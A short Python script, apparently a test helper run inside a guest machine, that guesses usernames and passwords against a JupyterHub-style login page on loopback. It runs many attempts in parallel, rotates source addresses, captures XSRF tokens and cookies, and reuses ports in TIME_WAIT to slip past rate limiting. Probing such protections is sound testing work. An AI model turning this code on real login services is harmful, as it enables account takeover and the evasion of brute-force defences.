"""Sent into a guest: guesses passwords there from many addresses of loopback, many at once.

The argument is JSON: a list of tries, each with ``name`` and ``password``, and perhaps ``source``
(the address that it comes from), ``used`` (whether it comes from a port that another connection has
just had), ``headers``, ``port`` and ``gap`` (seconds after the one before).
Prints what came of each: ``in``, ``wrong``, or the status.
"""

import concurrent.futures
import http.client
import itertools
import json
import re
import socket
import sys
import urllib.parse


def attempt(told: dict) -> str:  # type: ignore[type-arg] - JSON's
    """Load the form, and send it."""
    here = (told.get("source", "127.0.0.1"), 0)
    port = told.get("port", 8000)
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=300, source_address=here)
    if told.get("used"):
        connection._create_connection = lambda place, *_: again(next(ports), place)
    connection.request("GET", "/hub/login", headers=told.get("headers", {}))
    answer = connection.getresponse()
    own = told.get("headers", {}).get("Cookie")
    set_now = [line.partition(";")[0] for line in answer.msg.get_all("Set-Cookie", [])]
    token = re.search(r'name="_xsrf" value="([^"]+)"', answer.read().decode())
    form = {"username": told["name"], "password": told["password"], "_xsrf": token and token[1]}
    headers = {
        "Content-Type": "application/x-www-form-urlencoded",
        **told.get("headers", {}),
        "Cookie": "; ".join([*set_now, *([own] if own else [])]),
    }
    connection.close()
    body = urllib.parse.urlencode(form)
    connection.request("POST", "/hub/login?next=%2Fhub%2Ftoken", body, headers)
    answer = connection.getresponse()
    page = answer.read().decode(errors="replace")
    if answer.status == 302:
        return "in"
    return "wrong" if "Invalid username or password" in page else str(answer.status)


def again(port: int, place: tuple[str, int]) -> socket.socket:
    """Connect from a port whose last connection, to somewhere else, is in TIME_WAIT."""
    with socket.create_server(("127.0.0.1", 0)) as listener, bound(port) as first:
        first.connect(listener.getsockname())
        other, _ = listener.accept()
        first.close()
        other.recv(1)
        other.close()
    connection = bound(port)
    connection.connect(place)
    return connection


def bound(port: int) -> socket.socket:
    """A socket with a port of its own choice, which may have been used just before."""
    made = socket.socket()
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.bind(("127.0.0.1", port))
    return made


ports = itertools.count(19000)
tries = json.loads(sys.argv[1])
with concurrent.futures.ThreadPoolExecutor(int(sys.argv[2])) as pool:
    print(json.dumps(list(pool.map(attempt, tries))))  # noqa: T201 - a program
